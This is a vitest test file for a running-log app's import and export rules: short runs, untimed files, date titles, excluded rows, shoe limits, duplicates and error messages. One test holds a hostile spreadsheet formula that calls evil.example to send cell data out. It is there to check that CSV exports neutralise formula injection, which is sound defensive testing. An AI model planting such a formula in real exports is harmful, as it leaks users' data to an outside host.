/**
 * The import rules of CONTRACT.md §18 (too short, no times, dates as titles, rows left out,
 * shoes only when a file names them, at most 100 shoes, formulas in the CSV export) and the
 * wording of the import's refusals. Each rule holds the same way in the dry run and the import.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ImportEnvelopeSchema, type ImportResult, type ImportRow } from '../../../core/imports.js';
import { EntriesEnvelopeSchema, type Entry } from '../../../core/schemas.js';
import { call, createEntry, createTestApp, expectError, registerUser, type TestApp } from '../helpers.js';
import {
  gpxFile,
  importFiles,
  importResult,
  meridianPoints,
  multipartBody,
  stravaCsv,
  tcxFile,
  type Part,
} from './fixtures.js';
import { fitActivity } from './fit-fixtures.js';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t.close();
});

const runImport = (token: string, files: Part[], fields: Record<string, string> = {}) =>
  importResult(t.app, token, files, fields);

async function allRuns(token: string): Promise<Entry[]> {
  const res = await call(t.app, 'GET', '/api/v1/entry', { token, query: { per_page: 100 } });
  return EntriesEnvelopeSchema.parse(res.json()).entries.data;
}

/** A row as both answers give it: status, reason, and the run's values (ids aside). */
const outcome = (row: ImportRow) => ({
  source: row.source,
  status: row.status === 'would_create' ? 'created' : row.status,
  reason: row.reason,
  run: row.entry ? [row.entry.date, row.entry.distance, row.entry.time, row.entry.title] : null,
});

/** The dry run, then the import: the same rows, the same counts (§18: "the API and the preview agree"). */
async function previewThenImport(token: string, files: Part[]): Promise<ImportResult> {
  const preview = await runImport(token, files, { dry_run: '1' });
  const done = await runImport(token, files);
  expect(done.rows.map(outcome)).toEqual(preview.rows.map(outcome));
  expect([done.created, done.duplicates, done.skipped]).toEqual([preview.created, preview.duplicates, preview.skipped]);
  return done;
}

const bySource = (result: ImportResult) => Object.fromEntries(result.rows.map((r) => [r.source, r]));
const TOO_SHORT = 'Too short to be a run.';
const at = (iso: string) => new Date(iso);

describe('§18: runs too short, files without times, dates as titles', () => {
  it('skips watch files and others’ CSVs under 0.1 km or 60 s after rounding, never this server’s own exports', async () => {
    const { token } = await registerUser(t.app, { timezone: 'UTC' });
    const strava = stravaCsv([
      { id: 1, start: at('2024-02-01T07:00:00Z'), name: 'Warm-up', type: 'Run', metres: 80, moving: 600, elapsed: 600 },
      {
        id: 2,
        start: at('2024-02-02T07:00:00Z'),
        name: 'Easy',
        type: 'Run',
        metres: 5000,
        moving: 1500,
        elapsed: 1500,
      },
    ]);
    const garmin = [
      'Activity Type,Date,Favorite,Title,Distance,Calories,Time,Avg HR',
      'Running,2024-02-03 07:00:00,false,Strides,3.0,10,00:00:45,150',
      'Running,2024-02-04 07:00:00,false,Tempo,8.0,500,00:40:00,160',
    ].join('\n');
    const own = 'date,distance_km,time,title,notes,kind,effort,shoe\n2024-02-05,0.05,00:00:30,Tiny,,,,\n';
    const json = JSON.stringify({
      format: 'running-times',
      version: 1,
      entries: [{ date: '2024-02-06', distance: 0.001, time: '00:00:01' }],
    });
    const gpx = gpxFile({ start: at('2024-02-07T07:00:00Z'), segments: [meridianPoints(2, 0.0004, 600)] });
    const result = await previewThenImport(token, [
      // 99.5 m is 100 m after §9's half-up rounding: long enough.
      {
        name: 'edge.fit',
        content: fitActivity({ start: at('2024-02-08T07:00:00Z'), metres: 99.5, timerSeconds: 900 }),
      },
      { name: 'short.fit', content: fitActivity({ start: at('2024-02-09T07:00:00Z'), metres: 90, timerSeconds: 900 }) },
      // 59.4 s is 59 s: too short, whatever its speed says.
      {
        name: 'quick.fit',
        content: fitActivity({ start: at('2024-02-10T07:00:00Z'), metres: 5000, timerSeconds: 59.4 }),
      },
      {
        name: 'laps.tcx',
        content: tcxFile({ start: at('2024-02-11T07:00:00Z'), laps: [{ metres: 60, seconds: 300 }] }),
      },
      { name: 'short.gpx', content: gpx },
      { name: 'activities.csv', content: strava },
      { name: 'Activities.csv', content: garmin },
      { name: 'own.csv', content: own },
      { name: 'own.json', content: json },
    ]);
    const by = bySource(result);
    expect(by['edge.fit']?.status).toBe('created');
    expect(by['edge.fit']?.entry?.distance).toBe(0.1);
    for (const source of ['short.fit', 'quick.fit', 'laps.tcx', 'short.gpx', 'activities.csv:2', 'Activities.csv:2']) {
      expect(by[source], source).toMatchObject({ status: 'skipped', reason: TOO_SHORT });
    }
    for (const source of ['activities.csv:3', 'Activities.csv:3', 'own.csv:2', 'own.json#1']) {
      expect(by[source]?.status, source).toBe('created');
    }
  });

  it('says a GPX file without two timed points has no times', async () => {
    const { token } = await registerUser(t.app);
    const points = meridianPoints(10, 0.002, 30);
    const result = await previewThenImport(token, [
      {
        name: 'untimed.gpx',
        content: gpxFile({ start: at('2024-03-01T07:00:00Z'), segments: [points.map((p) => ({ ...p, t: null }))] }),
      },
      {
        name: 'one-time.gpx',
        content: gpxFile({
          start: at('2024-03-02T07:00:00Z'),
          segments: [points.map((p, i) => ({ ...p, t: i === 3 ? 0 : null }))],
        }),
      },
    ]);
    expect(result.rows.map((r) => [r.source, r.status, r.reason])).toEqual([
      ['untimed.gpx', 'skipped', 'This file has no times.'],
      ['one-time.gpx', 'skipped', 'This file has no times.'],
    ]);
  });

  it('drops a title that is only a date or a date-time, from watch files and others’ CSVs only', async () => {
    const { token } = await registerUser(t.app, { timezone: 'UTC' });
    const gpx = (day: number, name: string) =>
      gpxFile({
        start: at(`2024-04-${String(day).padStart(2, '0')}T07:00:00Z`),
        name,
        segments: [meridianPoints(20, 0.001, 30)],
      });
    const garmin = [
      'Activity Type,Date,Favorite,Title,Distance,Calories,Time,Avg HR',
      'Running,2024-04-10 07:00:00,false,03-OCT-10,5.0,10,00:25:00,150',
      'Running,2024-04-11 07:00:00,false,3-oct-2010 7:05,5.0,10,00:25:00,150',
      'Running,2024-04-12 07:00:00,false,Run of 2024-04-12,5.0,10,00:25:00,150',
    ].join('\n');
    const strava = stravaCsv([
      {
        id: 1,
        start: at('2024-04-13T07:00:00Z'),
        name: '2024-04-13',
        type: 'Run',
        metres: 5000,
        moving: 1500,
        elapsed: 1500,
      },
    ]);
    const own = 'date,distance_km,time,title,notes,kind,effort,shoe\n2024-04-14,5,00:25:00,2024-04-14,,,,\n';
    const result = await previewThenImport(token, [
      { name: 'a.gpx', content: gpx(1, '2013-07-06T14:59:00Z') },
      { name: 'b.gpx', content: gpx(2, '2013-07-06 14:59') },
      { name: 'c.gpx', content: gpx(3, '2013-07-06T14:59:00.123+02:00') },
      { name: 'd.gpx', content: gpx(4, '2013-07-06') },
      { name: 'e.gpx', content: gpx(5, 'Lunch Run') },
      { name: 'f.gpx', content: gpx(6, '2013-07-06T14') },
      { name: 'Activities.csv', content: garmin },
      { name: 'activities.csv', content: strava },
      { name: 'own.csv', content: own },
    ]);
    const title = (source: string) => bySource(result)[source]?.entry?.title;
    for (const source of [
      'a.gpx',
      'b.gpx',
      'c.gpx',
      'd.gpx',
      'Activities.csv:2',
      'Activities.csv:3',
      'activities.csv:2',
    ]) {
      expect(title(source), source).toBeNull();
    }
    expect(title('e.gpx')).toBe('Lunch Run');
    expect(title('f.gpx')).toBe('2013-07-06T14');
    expect(title('Activities.csv:4')).toBe('Run of 2024-04-12');
    expect(title('own.csv:2')).toBe('2024-04-14');
  });
});

describe('§18: rows left out', () => {
  it('answers each row named by an `exclude` field as left out, and stores only the others', async () => {
    const { token } = await registerUser(t.app);
    const csv = 'date,distance_km,time\n2024-05-01,5,00:25:00\n2024-05-02,6,00:30:00\n2024-05-03,7,00:35:00\n';
    const fit = fitActivity({ start: at('2024-05-04T07:00:00Z'), metres: 8000, timerSeconds: 2400 });
    const files: Part[] = [
      { name: 'runs.csv', content: csv },
      { name: 'race.fit', content: fit },
    ];
    const preview = await runImport(token, files, { dry_run: '1' });
    expect(preview.created).toBe(4);
    const { payload, contentType } = multipartBody([
      { name: 'exclude', content: 'runs.csv:3', field: true },
      { name: 'exclude', content: 'race.fit', field: true },
      { name: 'exclude', content: 'no-such-row', field: true },
      ...files,
    ]);
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v1/import',
      headers: { authorization: `Bearer ${token}`, 'content-type': contentType },
      payload,
    });
    expect(res.statusCode, res.body).toBe(201);
    const done = ImportEnvelopeSchema.parse(res.json()).import;
    expect(done.rows.map((r) => [r.source, r.status, r.reason ?? null])).toEqual([
      ['runs.csv:2', 'created', null],
      ['runs.csv:3', 'skipped', 'Left out.'],
      ['runs.csv:4', 'created', null],
      ['race.fit', 'skipped', 'Left out.'],
    ]);
    expect([done.created, done.duplicates, done.skipped]).toEqual([2, 0, 2]);
    expect((await allRuns(token)).map((e) => e.date).sort()).toEqual(['2024-05-01', '2024-05-03']);
  });
});

describe('§18: shoes on imported runs', () => {
  async function shoes(token: string) {
    const res = await call(t.app, 'GET', '/api/v1/shoes', { token });
    return res.json<{ shoes: { id: number; name: string; is_default: boolean }[] }>().shoes;
  }

  it('gives an imported run a shoe only when its file names one of the runner’s shoes, never the default', async () => {
    const { token } = await registerUser(t.app);
    const made = await call(t.app, 'POST', '/api/v1/shoes', { token, body: { name: 'New Pegasus', is_default: true } });
    expect(made.statusCode, made.body).toBe(201);
    const shoeId = made.json<{ shoe: { id: number } }>().shoe.id;
    // POST /entry still takes the default shoe (§8).
    expect((await createEntry(t.app, token, { date: '2026-03-01', distance: 5, time: '00:25:00' })).shoe_id).toBe(
      shoeId,
    );
    const own = [
      'date,distance_km,time,title,notes,kind,effort,shoe',
      '2010-06-01,10,00:50:00,Named,,,,New Pegasus',
      '2010-06-02,10,00:50:00,Unnamed,,,,',
      '2010-06-03,10,00:50:00,Unknown shoe,,,,Old Nimbus',
    ].join('\n');
    const result = await previewThenImport(token, [
      { name: 'own.csv', content: own },
      {
        name: 'old.fit',
        content: fitActivity({ start: at('2010-06-04T07:00:00Z'), metres: 8000, timerSeconds: 2400 }),
      },
    ]);
    expect(result.rows.map((r) => r.entry?.shoe_id)).toEqual([shoeId, null, null, null]);
    const stored = await allRuns(token);
    expect(stored.filter((e) => e.date.startsWith('2010')).map((e) => [e.title, e.shoe_id])).toEqual(
      expect.arrayContaining([
        ['Named', shoeId],
        ['Unnamed', null],
        ['Unknown shoe', null],
        [null, null],
      ]),
    );
  });

  it('skips the shoes past 100 with a reason, imports the runs, and the dry run says exactly that', async () => {
    const { token } = await registerUser(t.app);
    for (let i = 0; i < 98; i++) {
      const res = await call(t.app, 'POST', '/api/v1/shoes', { token, body: { name: `Own ${i}` } });
      expect(res.statusCode).toBe(201);
    }
    const json = JSON.stringify({
      format: 'running-times',
      version: 1,
      shoes: [{ name: 'Own 3' }, { name: 'Fresh A' }, { name: 'Fresh B' }, { name: 'Fresh C' }, { name: 'Fresh D' }],
      goals: [],
      entries: [
        { date: '2024-06-01', distance: 5, time: '00:25:00', shoe: 'Fresh A' },
        { date: '2024-06-02', distance: 6, time: '00:30:00', shoe: 'Fresh D' },
        { date: '2024-06-03', distance: 7, time: '00:35:00', shoe: 'Own 3' },
      ],
    });
    const files: Part[] = [
      { name: 'export.json', content: json },
      { name: 'more.csv', content: 'date,distance_km,time\n2024-06-04,8,00:40:00\n' },
    ];
    const preview = await runImport(token, files, { dry_run: '1' });
    const reason = (name: string) =>
      `A runner has at most 100 shoes: "${name}" was not imported (its runs come in without it).`;
    const expected = [
      ['export.json#1', 'would_create', undefined],
      ['export.json#2', 'would_create', undefined],
      ['export.json#3', 'would_create', undefined],
      ['more.csv:2', 'would_create', undefined],
      ['export.json#shoes/4', 'skipped', reason('Fresh C')],
      ['export.json#shoes/5', 'skipped', reason('Fresh D')],
    ];
    expect(preview.rows.map((r) => [r.source, r.status, r.reason])).toEqual(expected);
    expect([preview.created, preview.skipped]).toEqual([4, 2]);

    const done = await runImport(token, files);
    expect(done.rows.map((r) => [r.source, r.status === 'created' ? 'would_create' : r.status, r.reason])).toEqual(
      expected,
    );
    const mine = await shoes(token);
    expect(mine).toHaveLength(100);
    const idOf = (name: string) => mine.find((s) => s.name === name)?.id ?? null;
    expect(idOf('Fresh C')).toBeNull();
    expect(done.rows.slice(0, 4).map((r) => r.entry?.shoe_id)).toEqual([idOf('Fresh A'), null, idOf('Own 3'), null]);
    expect(await allRuns(token)).toHaveLength(4);
  });
});

describe('§18: formulas in the CSV export', () => {
  it('writes a cell that a spreadsheet would run with one more leading quote, and takes it off on import', async () => {
    const owner = await registerUser(t.app);
    const shoe = await call(t.app, 'POST', '/api/v1/shoes', { token: owner.token, body: { name: '@home treadmill' } });
    const shoeId = shoe.json<{ shoe: { id: number } }>().shoe.id;
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const bodies = [
      { date: '2024-07-01', distance: 5, time: '00:25:00', title: hostile, notes: '+1 strides', shoe_id: shoeId },
      { date: '2024-07-02', distance: 5, time: '00:25:00', title: '-5k tempo', notes: "'quoted already" },
      { date: '2024-07-03', distance: 5, time: '00:25:00', title: 'Plain, "safe"', notes: 'a = b' },
    ];
    for (const body of bodies) {
      expect((await call(t.app, 'POST', '/api/v1/entry', { token: owner.token, body })).statusCode).toBe(201);
    }
    const res = await call(t.app, 'GET', '/api/v1/export', { token: owner.token, query: { format: 'csv' } });
    const lines = res.body.split('\r\n');
    expect(lines[1]).toBe(
      `2024-07-01,5,00:25:00,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'+1 strides,,,'@home treadmill`,
    );
    expect(lines[2]).toBe(`2024-07-02,5,00:25:00,'-5k tempo,''quoted already,,,`);
    expect(lines[3]).toBe('2024-07-03,5,00:25:00,"Plain, ""safe""",a = b,,,');

    const other = await registerUser(t.app);
    await call(t.app, 'POST', '/api/v1/shoes', { token: other.token, body: { name: '@home treadmill' } });
    const imported = await runImport(other.token, [{ name: 'export.csv', content: res.body }]);
    expect(imported.rows.map((r) => [r.entry?.title, r.entry?.notes, r.entry?.shoe_id !== null])).toEqual([
      [hostile, '+1 strides', true],
      ['-5k tempo', "'quoted already", false],
      ['Plain, "safe"', 'a = b', false],
    ]);
  });
});

describe('duplicates show the stored run they match', () => {
  it('answers the stored run with each duplicate of it, in the dry run and the import', async () => {
    const { token } = await registerUser(t.app);
    const stored = await createEntry(t.app, token, { date: '2024-08-01', distance: 10, time: '00:50:00' });
    const files: Part[] = [{ name: 'again.csv', content: 'date,distance_km,time\n2024-08-01,10.05,00:50:20\n' }];
    for (const fields of [{ dry_run: '1' }, {}] as Record<string, string>[]) {
      const result = await runImport(token, files, fields);
      expect(result.rows[0]).toEqual({
        source: 'again.csv:2',
        status: 'duplicate',
        reason: 'A run of the same day, distance and time is already stored.',
        reason_code: 'duplicate_stored',
        duplicate_of: { id: stored.id, date: '2024-08-01', distance: 10, time: '00:50:00' },
      });
    }
  });
});

describe('the wording of a refused import', () => {
  const csv: Part = { name: 'a.csv', content: 'date,distance_km,time\n2024-01-01,5,00:25:00\n' };

  it('says what is wrong with the mapping, and with the form fields', async () => {
    const { token } = await registerUser(t.app);
    const notObject = await importFiles(t.app, token, [csv], { mapping: '[1,2]' });
    expectError(notObject, 422);
    expect(notObject.json()).toMatchObject({ message: 'The mapping must be a JSON object.' });
    const huge = await importFiles(t.app, token, [csv], { mapping: JSON.stringify({ date: 'x'.repeat(70_000) }) });
    expectError(huge, 422);
    expect(huge.json()).toMatchObject({ message: 'The mapping field must not be larger than 64 KB.' });

    // 21 form fields are no malformed upload: unknown fields are ignored.
    const fields = Object.fromEntries(Array.from({ length: 21 }, (_, i) => [`extra${i}`, 'x']));
    expect((await importFiles(t.app, token, [csv], { ...fields, dry_run: '1' })).statusCode).toBe(200);

    const many = Object.fromEntries(Array.from({ length: 10_001 }, (_, i) => [`f${i}`, '1']));
    const tooMany = await importFiles(t.app, token, [csv], many);
    expectError(tooMany, 413);
    expect(tooMany.json<{ message: string }>().message).toMatch(/at most 1000 files and 10,000 other form fields/);

    const heavy = Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`exclude${i}`, 'x'.repeat(60_000)]));
    const tooHeavy = await importFiles(t.app, token, [csv], heavy);
    expectError(tooHeavy, 413);
    expect(tooHeavy.json<{ message: string }>().message).toMatch(/form fields must not be larger than 1 MiB/);
  });
});
